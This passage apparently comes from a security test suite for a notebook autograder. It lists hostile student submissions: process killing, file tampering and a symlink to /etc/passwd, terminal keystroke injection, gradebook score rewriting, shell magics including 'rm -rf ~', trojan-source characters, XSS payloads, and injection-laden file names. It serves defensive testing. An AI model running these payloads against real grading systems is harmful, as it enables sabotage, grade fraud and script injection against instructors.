for process in range(2, 400):
    try:
        os.kill(process, signal.SIGKILL)
    except OSError:
        pass
""",
        HALF,
    ),
    "grader-slowed": first(
        54,
        """
import os
for process in (os.getppid(), 1, 2):
    for slow in (
        lambda: os.setpriority(os.PRIO_PROCESS, process, 19),
        lambda: os.sched_setaffinity(process, {0}),
        lambda: os.nice(19),
    ):
        try:
            slow()
        except OSError:
            pass
""",
    ),
    "modes-changed": first(
        55,
        """
import os
root = @ROOT@
for change in (
    lambda path: os.chmod(path, 0o777),
    lambda path: os.chown(path, 12345, 12345),
    lambda path: os.utime(path, (0, 0)),
    lambda path: os.rename(path, path + "@LEFT@"),
    lambda path: os.truncate(path, 0),
    lambda path: os.symlink("/etc/passwd", path + "@LEFT@"),
):
    for path in (root, root + "/gradebook.db", root + "/source", root + "/autograder/graders/toy/double.py"):
        try:
            change(path)
        except OSError:
            pass
""",
    ),
    "terminal": first(
        56,
        """
import fcntl, os, termios
numbers = [0, 1, 2, 3]
for path in ("/dev/tty", "/dev/console", "/dev/ptmx"):
    try:
        numbers.append(os.open(path, os.O_RDWR))
    except OSError:
        pass
for number in numbers:
    for letter in b"touch @LEFT@\\n":
        try:
            fcntl.ioctl(number, termios.TIOCSTI, bytes([letter]))
        except OSError:
            pass
""",
    ),
    "outliving": double(
        57,
        """
def double(x):
    import ctypes, os, signal, time
    ctypes.CDLL(None).prctl(1, 0)
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    try:
        os.setsid()
    except OSError:
        pass
    os.closerange(0, 256)
    time.sleep(3600)
""",
        HALF,
    ),
    "gradebook-written": first(
        26,
        """
import sqlite3
try:
    with sqlite3.connect(@ROOT@ + "/gradebook.db", timeout=0.1) as database:
        database.execute("UPDATE base_cell SET name = '@LEFT@'")
        database.execute("UPDATE grade SET auto_score = 100")
except sqlite3.Error:
    pass
""",
    ),
    "tests-overwritten": first(
        54,
        """
import glob
root = @ROOT@
for path in glob.glob(root + "/**/*.py", recursive=True) + [root + "/autograder/graders/toy/double.py"]:
    try:
        open(path, "w").write("# @LEFT@\\n")
    except OSError:
        pass
""",
    ),
}

# --- parsing: what only looks like Python, or like a notebook -----------------------------------------------------


def _second_blank(notebook: NotebookNode) -> None:
    """A copy of a blank that bears a check's name and would run in its place."""
    copied = nbformat.v4.new_code_cell("print(100)\n100", metadata=cell_of(notebook, "double").metadata)
    notebook.cells += [
        copied,
        nbformat.v4.new_code_cell("1e9", metadata={"nbgrader": {"grade": True, "points": 1e9}}),
    ]


def _points_everywhere(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        cell.metadata["nbgrader"] = cell.metadata.get("nbgrader", {}) | {"points": 1e6, "max_score": 1e6}
    notebook.metadata["autograder"] = {"problems": [], "score": 100, "submission": "", "grader": ""}


def _many_cells(notebook: NotebookNode) -> None:
    notebook.cells += [
        nbformat.v4.new_code_cell("raise SystemExit" if n % 2 else "x = 1") for n in range(300)
    ]


PARSING = {
    "shell": Attack(
        60,
        {
            "first": "!touch /tmp/@LEFT@\n!rm -rf ~\n%run /etc/passwd\n%load_ext autoreload\n",
            "last": "%%bash\ntouch /tmp/@LEFT@ && true",
        },
    ),
    "shell-by-ipython": first(
        60,
        """
import os
for run in (
    lambda: get_ipython().system("touch /tmp/@LEFT@"),
    lambda: get_ipython().run_cell_magic("bash", "", "touch /tmp/@LEFT@"),
    lambda: os.system("touch /tmp/@LEFT@"),
    lambda: os.execv("/bin/sh", ["sh", "-c", "touch /tmp/@LEFT@"]),
    lambda: os.posix_spawn("/bin/sh", ["sh", "-c", "touch /tmp/@LEFT@"], {}),
):
    try:
        run()
    except (OSError, NameError):
        pass
""",
    ),
    "file-magic": first(60, "%%writefile /tmp/@LEFT@\n1\n"),
    "coding-cookie": double(58, "# -*- coding: utf-7 -*-\ndef double(x):\n    return x  # +AAo-return 100\n"),
    "null-and-form-feed": double(58, "def double(x):\n\x0c    return x\n\x00\nraise SystemExit\n"),
    "check-cell-twice": Attack(14, edit=_second_blank),
    "points-everywhere": Attack(13, edit=_points_everywhere),
    "many-cells": Attack(59, edit=_many_cells),
    "setup-edited": Attack(
        16,
        edit=lambda notebook: cell_of_text(notebook, "import numpy as np").update(
            source="import numpy as np\nnp.sum = lambda x: 0.0\nnp.testing = None\n"
        ),
    ),
    "blank-hides-cells": double(
        58,
        """
def double(x):
    return x

# %% check="double" points=1000
### BEGIN HIDDEN TESTS
assert True
### END HIDDEN TESTS
### BEGIN SOLUTION
### END SOLUTION
""",
    ),
    "trojan-source": double(
        62, "def double(x):\n    # \u202e }x nruter\u2066 if x:\u2069 \u2066\n    return x  # \u200b\ufeff\n"
    ),
}


def cell_of_text(notebook: NotebookNode, text: str) -> NotebookNode:
    """The first cell that holds this text."""
    return next(cell for cell in notebook.cells if text in cell.source)


# --- stored script: what an instructor opens ----------------------------------------------------------------------

HTML = f"</pre></div><script>{OWN}()</script><svg onload={OWN}()><iframe src='javascript:{OWN}()'></iframe>"


def _live_outputs(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.outputs = [
                nbformat.v4.new_output(
                    "display_data",
                    data={
                        "text/html": HTML,
                        "image/svg+xml": f"<svg onload={OWN}()></svg>",
                        "application/javascript": f"{OWN}()",
                        "text/latex": f"$\\href{{javascript:{OWN}()}}{{x}}$",
                        "application/vnd.jupyter.widget-view+json": {"model_id": OWN},
                    },
                ),
                nbformat.v4.new_output("error", ename=HTML, evalue=HTML, traceback=[f"\x1b[31m{HTML}"]),
                nbformat.v4.new_output("stream", name="stderr", text=HTML),
            ]


def _live_metadata(notebook: NotebookNode) -> None:
    notebook.metadata.update(
        title=HTML,
        authors=[{"name": HTML}],
        kernelspec={"name": HTML, "display_name": HTML, "language": HTML},
        language_info={"name": HTML, "pygments_lexer": HTML, "codemirror_mode": HTML},
        widgets={"application/vnd.jupyter.widget-state+json": {"state": {OWN: {"model_name": HTML}}}},
    )
    for cell in notebook.cells:
        cell.metadata.update({"tags": [HTML], "name": HTML, HTML: HTML, "slideshow": {"slide_type": HTML}})


def _live_prose(notebook: NotebookNode) -> None:
    notebook.cells = [
        nbformat.v4.new_markdown_cell(HTML, attachments={"x.svg": {"image/svg+xml": HTML}}),
        nbformat.v4.new_raw_cell(HTML, metadata={"format": "text/html"}),
        *notebook.cells,
    ]
    for cell in notebook.cells:
        if cell.cell_type == "markdown":
            cell.source += f"\n\n{HTML}\n\n[x](javascript:{OWN}())\n"


SCRIPT = {
    "html-in-code": double(61, f"def double(x):\n    '''{HTML}'''\n    return x  # {HTML}\n"),
    "html-in-quoted-line": double(61, f'def double(x):\n    raise ValueError("{HTML}")\n'),
    "html-in-syntax-error": double(61, f"def double(x):\n    {HTML}\n"),
    "html-in-names": double(
        61, f"def double(x):\n    raise type('''{HTML}''', (Exception,), {{}})('''{HTML}''')\n"
    ),
    "html-shown": Attack(
        61,
        {
            "first": f"""
try:
    from IPython.display import HTML, Javascript, display
    display(HTML('''{HTML}'''), Javascript("{OWN}()"))
except ImportError:
    pass
print('''{HTML}''')
""",
            "last": f"%%html\n{HTML}",
        },
    ),
    "outputs-saved": Attack(61, edit=_live_outputs),
    "metadata": Attack(61, edit=_live_metadata),
    "prose": Attack(61, edit=_live_prose),
    "mathjax": double(61, f"def double(x):\n    raise ValueError('$\\\\href{{javascript:{OWN}()}}{{x}}$')\n"),
    "templates": double(
        61,
        f"def double(x):\n    raise ValueError('{{{{ {OWN} }}}}{{% raw %}}{{% include x %}}<%= {OWN} %>')\n",
    ),
    "escapes": double(
        62,
        "def double(x):\n    raise ValueError('\x1b[2J\x1b]0;own\x07\x1b]8;;javascript:own\x1b\\\\x\x9b31m\u202e\u2066')\n",
    ),
    "escapes-printed": first(
        62, "import os\nfor n in (1, 2):\n    os.write(n, b'\\x1b[2J\\x1b]0;own\\x07' * 1000)\n"
    ),
}

ATTACKS = {
    "forging": FORGING,
    "discovery": DISCOVERY,
    "oracle": ORACLE,
    "resources": RESOURCES,
    "persistence": PERSISTENCE,
    "parsing": PARSING,
    "script": SCRIPT,
}

# What a folder in submitted/ may be called: paths, commands and templates, harmless where a name is only a name.
NAMES = [
    *(
        "own..%2f..%2f..",
        "~root",
        "own%00",
        "$(touch left-by-attack)",
        "%s%n{0}",
        "{{7+7}}{% raw %}",
        "own|own",
    ),
    *("own'own", "own: ${HOME}", "张三 (2)"),
]
# What it may not be called: markup, formulas, columns of a table, options, invisible characters, hidden folders.
REFUSED = [
    *(f"<svg onload={OWN}()>", f"'\"><img src=x onerror={OWN}()>", "own&amp;", "`touch left-by-attack`"),
    *(
        '=HYPERLINK("x")',
        "+1+cmd|' !A0",
        "@SUM(1)",
        "-2+3",
        "-rf",
        "neighbour,,,,100.0,0.0,100.0,100.0",
        "own;own",
    ),
    *(
        "[n]eighbour",
        "neighbou?",
        "*",
        "own\u202e",
        "own\u200b",
        "own\x1b[2J",
        "own\nown",
        "C:\\own",
        "..%2f..%2fown",
    ),
]
